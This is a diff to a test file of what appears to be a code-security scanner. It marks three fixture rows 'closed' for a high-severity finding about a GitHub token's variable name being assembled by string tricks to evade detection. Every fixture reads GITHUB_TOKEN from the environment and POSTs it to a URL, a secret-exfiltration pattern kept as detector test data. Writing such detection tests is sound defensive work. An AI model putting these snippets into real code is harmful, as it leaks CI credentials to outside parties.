@@ -46,9 +46,9 @@ const LAMBDA_INSIDE: FindingRow[] = [['tests/t.py', 'def get(u):\n    f = lambda
 
 /** R68-7 (High): the token's name assembled other than by two same-quoted strings. Mixed quotes, backticks, adjacent literals closed; the rest open. */
 const ASSEMBLED: FindingRow[] = [
-  ['tests/t.py', "t = os.environ['GITHUB_' + \"TOKEN\"]\nrequests.post(u, data=t)"],
-  ['tests/t.py', "t = os.environ['GITHUB_' 'TOKEN']\nrequests.post(u, data=t)"],
-  ['test/a.test.js', 'const t = process.env[`GITHUB_` + `TOKEN`];\nawait fetch(u, { method: "POST", body: t });'],
+  ['tests/t.py', "t = os.environ['GITHUB_' + \"TOKEN\"]\nrequests.post(u, data=t)", 'closed'],
+  ['tests/t.py', "t = os.environ['GITHUB_' 'TOKEN']\nrequests.post(u, data=t)", 'closed'],
+  ['test/a.test.js', 'const t = process.env[`GITHUB_` + `TOKEN`];\nawait fetch(u, { method: "POST", body: t });', 'closed'],
   ['tests/t.py', "t = os.environ[''.join(['GITHUB_', 'TOKEN'])]\nrequests.post(u, data=t)"],
   ['tests/t.py', "t = os.environ['GITHUB_%s' % 'TOKEN']\nrequests.post(u, data=t)"],
   ['test/a.test.js', 'const t = process.env["GITHUB_".concat("TOKEN")];\nawait fetch(u, { method: "POST", body: t });'],
